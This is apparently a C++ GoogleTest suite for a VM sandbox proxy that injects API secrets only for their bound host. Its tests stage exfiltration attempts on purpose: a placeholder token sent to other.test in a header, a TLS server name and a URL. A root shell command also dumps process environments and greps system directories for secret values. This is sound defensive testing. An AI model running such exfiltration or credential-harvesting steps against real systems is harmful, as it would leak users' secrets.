// Issue 19 end to end on a real VM (the stack: secrets_net_fixture.h): the
// sandbox kSandbox with --secret API_TOKEN:api.test and BAD_TOKEN:badapi.test;
// the guest (python3 in the test-python image) reaches the API hosts by
// address with the host's name as the TLS server name and Host.
//   - the request with "Authorization: Bearer $API_TOKEN" arrives with the
//     real value; after `ak secret set API_TOKEN` with a new value, the next
//     request carries the new one (rotation);
//   - the placeholder to another host (plain HTTP Host other.test, a TLS
//     server name holding it) and in the URL to the bound host is refused,
//     reaches no server, and the auditor gets secret.exfiltration events;
//   - badapi.test answers with a certificate of a CA nobody trusts: the
//     request fails, the server sees none, the auditor gets secret.upstream-tls;
//   - the guest (root) finds no value in its environment, processes' environ
//     or files; the executor's and auditor's output holds none either;
//   - proxy hooks (files and the auditor) see method, host, path, status and
//     sizes of each relayed request, never a header or a value;
//   - the executor runs with --vm-supervisors: after a SIGTERM and after a
//     SIGKILL of it, the next executor serves the same placeholder to the
//     same host with the vault's value (the CA the guest trusts came back
//     from its 0600 file), still refuses the placeholder elsewhere, its
//     hooks still fire, and no file under its state directory holds a value;
//   - on one keep-alive guest connection, a second request with the
//     placeholder in its URL is refused like a first one would be.
// Proxy hooks on their own: secrets_hooks_test.cc.
#include <dirent.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <chrono>
#include <string>
#include <thread>

#include <gtest/gtest.h>

#include "tests/security/secrets_net_fixture.h"

namespace {

using aktest::Slurp;

// The guest's keep-alive client: two requests on one TLS connection to
// api.test at address argv[1], the first with the placeholder in
// Authorization, the second with it in the URL; each answer's status line,
// and whether the relay then ended the connection.
const char kKeepAlive[] = R"PY(
import os, socket, ssl, sys
ph = os.environ["API_TOKEN"]
s = ssl.create_default_context().wrap_socket(socket.create_connection((sys.argv[1], 443), timeout=30),
                                             server_hostname="api.test")
def answer():
    d = b""
    while b"\r\n\r\n" not in d:
        c = s.recv(1)
        if not c:
            return None
        d += c
    n = [int(l.split(b":")[1]) for l in d.split(b"\r\n") if l.lower().startswith(b"content-length:")]
    body = b""
    while n and len(body) < n[0]:
        body += s.recv(n[0] - len(body))
    return d.split(b"\r\n")[0].decode()
s.sendall(("GET /ka1 HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\n\r\n" % ph).encode())
print("RESP1", answer())
s.sendall(("GET /ka2?k=%s HTTP/1.1\r\nHost: api.test\r\n\r\n" % ph).encode())
print("RESP2", answer())
print("CLOSED" if s.recv(1) == b"" else "OPEN")
)PY";

class SecretsNetTest : public SecretsNetFixture {
 protected:
  static void SetUpTestSuite() { SetUpSuite(true); }
};

TEST_F(SecretsNetTest, ValueReachesTheBoundHostAndRotates) {
  std::string out = Request(true, api_addr_, 443, "api.test", "api.test", "/first", kBearer);
  EXPECT_NE(out.find(" 200"), std::string::npos) << out;
  std::string log = Slurp(dir_ + "/api.log");
  EXPECT_NE(log.find(std::string("\"path\": \"/first\", \"host\": \"api.test\", \"auth\": \"Bearer ") + kValue1 + "\""),
            std::string::npos)
      << log;
  EXPECT_EQ(log.find(placeholder_), std::string::npos) << log;

  // Rotation: the vault's new value goes on the next request.
  ASSERT_TRUE(SetSecret("API_TOKEN", kValue2)) << setup_error_;
  out = Request(true, api_addr_, 443, "api.test", "api.test", "/second", kBearer);
  EXPECT_NE(out.find(" 200"), std::string::npos) << out;
  log = Slurp(dir_ + "/api.log");
  EXPECT_NE(log.find(std::string("\"path\": \"/second\", \"host\": \"api.test\", \"auth\": \"Bearer ") + kValue2 +
                     "\""),
            std::string::npos)
      << log;
  ASSERT_TRUE(SetSecret("API_TOKEN", kValue1)) << setup_error_;

  // The hooks saw both requests: method, host, path, status, sizes.
  std::string req = Slurp(HookFile("req.jsonl")), resp = Slurp(HookFile("resp.jsonl"));
  EXPECT_NE(req.find(R"("hook":"req","event":"on_request")"), std::string::npos) << req;
  EXPECT_NE(req.find(R"("sandbox":"secnet1","method":"GET","host":"api.test","port":443,"path":"/first","request_bytes":)"),
            std::string::npos)
      << req;
  EXPECT_NE(req.find(R"("path":"/second")"), std::string::npos) << req;
  EXPECT_EQ(req.find("status"), std::string::npos) << req;
  EXPECT_NE(resp.find(R"("event":"on_response")"), std::string::npos) << resp;
  EXPECT_NE(resp.find(R"("path":"/first","request_bytes":)"), std::string::npos) << resp;
  EXPECT_NE(resp.find(R"("secret_injected":true,"status":200,"response_bytes":)"), std::string::npos) << resp;
  EXPECT_TRUE(Audited("proxy_response")) << Slurp(audit_);
  for (const std::string& f : {req, resp}) {
    EXPECT_EQ(f.find("Bearer"), std::string::npos) << f;
    EXPECT_EQ(f.find(placeholder_), std::string::npos) << f;
  }
}

// Every request on a keep-alive guest connection is checked, not only the
// first: the second carries the placeholder in its URL and is refused (403,
// the connection ended), reaches no server, is audited and hooked.
TEST_F(SecretsNetTest, EveryRequestOnAKeepAliveConnectionIsChecked) {
  aktest::StreamOut o;
  Guest(false, {"python3", "-c", kKeepAlive, api_addr_}, &o);
  EXPECT_EQ(o.status, 0) << o.error << o.err;
  EXPECT_NE(o.out.find("RESP1 HTTP/1.1 200"), std::string::npos) << o.out << o.err;
  EXPECT_NE(o.out.find("RESP2 HTTP/1.1 403"), std::string::npos) << o.out << o.err;
  EXPECT_NE(o.out.find("CLOSED"), std::string::npos) << o.out;
  std::string log = Slurp(dir_ + "/api.log");
  EXPECT_NE(log.find(std::string("\"path\": \"/ka1\", \"host\": \"api.test\", \"auth\": \"Bearer ") + kValue1 + "\""),
            std::string::npos)
      << log;
  EXPECT_EQ(log.find("/ka2"), std::string::npos) << log;
  EXPECT_TRUE(Audited("secret.exfiltration")) << Slurp(audit_);
  std::string req;
  for (int i = 0; i < 100 && req.find(R"("path":"/ka2")") == std::string::npos; i++) {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    req = Slurp(HookFile("req.jsonl"));
  }
  EXPECT_NE(req.find(R"("path":"/ka1")"), std::string::npos) << req;
  EXPECT_NE(req.find(R"("path":"/ka2")"), std::string::npos) << req;
  EXPECT_EQ(req.find(placeholder_), std::string::npos) << req;
}

TEST_F(SecretsNetTest, PlaceholderElsewhereIsRefusedAndAudited) {
  // Plain HTTP to another host, the placeholder in a header.
  std::string out = Request(false, api_addr_, 80, "", "other.test", "/leak1", "X-Key: {API_TOKEN}");
  EXPECT_NE(out.find("RESP HTTP/1.1 403"), std::string::npos) << out;
  // TLS whose server name carries it.
  out = Request(true, api_addr_, 443, "x" + placeholder_ + ".other.test", "other.test", "/leak2", "X-A: b");
  EXPECT_NE(out.find("ERR"), std::string::npos) << out;
  // The bound host, but the placeholder in the URL.
  out = Request(true, api_addr_, 443, "api.test", "api.test", "/leak3?k=" + placeholder_, "X-A: b");
  EXPECT_EQ(out.find(" 200"), std::string::npos) << out;
  std::string logs = Slurp(dir_ + "/plain.log") + Slurp(dir_ + "/api.log");
  EXPECT_EQ(logs.find("/leak"), std::string::npos) << logs;
  EXPECT_TRUE(Audited("secret.exfiltration")) << Slurp(audit_);
  EXPECT_TRUE(Audited("other.test")) << Slurp(audit_);
  // The hooks saw the refused plain-HTTP request, with its rule.
  std::string resp = Slurp(HookFile("resp.jsonl"));
  EXPECT_NE(resp.find(R"("method":"GET","host":"other.test","port":80,"path":"/leak1")"), std::string::npos) << resp;
  EXPECT_NE(resp.find(R"("outcome":"refused","rule":"secret.exfiltration")"), std::string::npos) << resp;
}


TEST_F(SecretsNetTest, BoundHostWithAnUntrustedCertificateFails) {
  std::string out = Request(true, bad_addr_, 443, "badapi.test", "badapi.test", "/bad",
                            "Authorization: Bearer {BAD_TOKEN}");
  EXPECT_EQ(out.find(" 200"), std::string::npos) << out;
  EXPECT_EQ(Slurp(dir_ + "/bad.log").find("/bad"), std::string::npos) << Slurp(dir_ + "/bad.log");
  EXPECT_TRUE(Audited("secret.upstream-tls")) << Slurp(audit_);
}

TEST_F(SecretsNetTest, GuestFindsNoValue) {
  aktest::StreamOut f;
  std::string grep;
  for (const char* v : {kValue1, kValue2, kBadValue}) grep += std::string(" -e '") + v + "'";
  Guest(true,
        {"/bin/sh", "-c",
         "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; for d in /etc /home /root /tmp /run /var /opt; do "
         "[ -d $d ] && grep -rl" +
             grep + " $d 2>/dev/null; done; echo done"},
        &f);
  EXPECT_NE(f.out.find("done"), std::string::npos) << f.error << f.err;
  EXPECT_NE(f.out.find(placeholder_), std::string::npos) << f.out;
  for (const char* v : {kValue1, kValue2, kBadValue}) EXPECT_EQ(f.out.find(v), std::string::npos) << f.out;
}

// A shell session (OpenShell) sees the placeholders as commands do.
TEST_F(SecretsNetTest, ShellSessionsGetThePlaceholder) {
  Ak__V1__OpenShellRequest open = AK__V1__OPEN_SHELL_REQUEST__INIT;
  const char* argv[] = {"/bin/sh", "-c", "echo tok=$API_TOKEN"};
  const char* env[] = {"EXTRA=1"};
  open.sandbox = const_cast<char*>(kSandbox);
  open.argv = const_cast<char**>(argv);
  open.n_argv = 3;
  open.env = const_cast<char**>(env);
  open.n_env = 1;
  struct rpc_stream* st = nullptr;
  struct ak_error err = {};
  struct rpc_call_options opt = {};
  opt.timeout_ms = 60000;
  ASSERT_EQ(rpc_stream_open(ch_, &ak__v1__executor__descriptor, "OpenShell", &open.base, &opt, &st, &err), RPC_OK)
      << err.msg;
  std::string screen;
  int exited = -100;
  while (exited == -100) {
    ProtobufCMessage* m = nullptr;
    if (rpc_stream_next(st, &m, &err) <= 0) break;
    auto* ev = reinterpret_cast<Ak__V1__ShellEvent*>(m);
    if (ev->kind == AK__V1__SHELL_EVENT__KIND__OUTPUT)
      screen.append(reinterpret_cast<char*>(ev->output.data), ev->output.len);
    if (ev->kind == AK__V1__SHELL_EVENT__KIND__EXITED) exited = ev->exit_code;
    protobuf_c_message_free_unpacked(m, nullptr);
  }
  rpc_stream_free(st);
  EXPECT_EQ(exited, 0) << err.msg << screen;
  EXPECT_NE(screen.find("tok=" + placeholder_), std::string::npos) << screen;
}

// Last: the executor goes away twice (SIGTERM, SIGKILL) under a running
// secret sandbox; each next executor takes it back with its secrets.
TEST_F(SecretsNetTest, SecretsSurviveExecutorRestarts) {
  const std::string st = dir_ + "/st";
  std::string vm;  // the sandbox's VM directory
  if (DIR* d = opendir((st + "/v").c_str())) {
    while (struct dirent* e = readdir(d))
      if (e->d_name[0] != '.' && Slurp(st + "/v/" + e->d_name + "/sandbox.json").find(kSandbox) != std::string::npos)
        vm = st + "/v/" + e->d_name;
    closedir(d);
  }
  ASSERT_FALSE(vm.empty()) << "no VM directory holds " << kSandbox << "'s sandbox.json";
  std::string record = Slurp(vm + "/sandbox.json");
  EXPECT_NE(record.find("\"placeholder\":\"" + placeholder_ + "\""), std::string::npos) << record;
  EXPECT_NE(record.find("\"binding\":\"API_TOKEN:api.test\""), std::string::npos) << record;
  struct stat ca;
  ASSERT_EQ(stat((vm + "/secrets-ca.pem").c_str(), &ca), 0);
  EXPECT_EQ(ca.st_mode & 07777, 0600u);
  for (bool hard : {false, true}) {
    const std::string when = hard ? "kill" : "term";
    SCOPED_TRACE("after SIG" + std::string(hard ? "KILL" : "TERM"));
    RestartExecutor(hard, "executor-" + when);
    // The same placeholder, the same host, the vault's value.
    std::string out = Request(true, api_addr_, 443, "api.test", "api.test", "/after-" + when, kBearer);
    EXPECT_NE(out.find(" 200"), std::string::npos) << out << Slurp(exec_->err);
    std::string log = Slurp(dir_ + "/api.log");
    EXPECT_NE(log.find("\"path\": \"/after-" + when + "\", \"host\": \"api.test\", \"auth\": \"Bearer " +
                       kValue1 + "\""),
              std::string::npos)
        << log;
    // Still refused elsewhere, and audited.
    out = Request(false, api_addr_, 80, "", when + ".other.test", "/leak-" + when, "X-Key: {API_TOKEN}");
    EXPECT_NE(out.find("RESP HTTP/1.1 403"), std::string::npos) << out;
    EXPECT_EQ(Slurp(dir_ + "/plain.log").find("/leak-" + when), std::string::npos);
    EXPECT_TRUE(Audited(when + ".other.test")) << Slurp(audit_);
    // The hooks came back with it: the relay's requests and the proxy's.
    EXPECT_NE(Slurp(HookFile("req.jsonl")).find("\"path\":\"/after-" + when + "\""), std::string::npos)
        << Slurp(HookFile("req.jsonl"));
    EXPECT_NE(Slurp(HookFile("resp.jsonl")).find("\"host\":\"" + when + ".other.test\",\"port\":80"), std::string::npos)
        << Slurp(HookFile("resp.jsonl"));
  }
  // Rotation still reaches the adopted relay.
  ASSERT_TRUE(SetSecret("API_TOKEN", kValue2)) << setup_error_;
  std::string out = Request(true, api_addr_, 443, "api.test", "api.test", "/after-rotation", kBearer);
  EXPECT_NE(out.find(" 200"), std::string::npos) << out;
  EXPECT_NE(Slurp(dir_ + "/api.log").find("\"path\": \"/after-rotation\", \"host\": \"api.test\", \"auth\": \"Bearer " +
                                          std::string(kValue2) + "\""),
            std::string::npos);
  ASSERT_TRUE(SetSecret("API_TOKEN", kValue1)) << setup_error_;
  // No file under the executor's state directory holds a value (grep -r:
  // status 1 is "nothing found").
  std::string grep = "grep -rlF -D skip";
  for (const char* v : {kValue1, kValue2, kBadValue}) grep += std::string(" -e '") + v + "'";
  int rc = system((grep + " " + st + " > " + dir_ + "/found.txt 2>&1").c_str());
  EXPECT_TRUE(WIFEXITED(rc) && WEXITSTATUS(rc) == 1) << rc << ": " << Slurp(dir_ + "/found.txt");
  rc = system(("grep -rlF -D skip -e '" + placeholder_ + "' " + st + " > /dev/null 2>&1").c_str());
  EXPECT_TRUE(WIFEXITED(rc) && WEXITSTATUS(rc) == 0) << "the grep finds nothing at all (the placeholder is in sandbox.json)";
}

}  // namespace
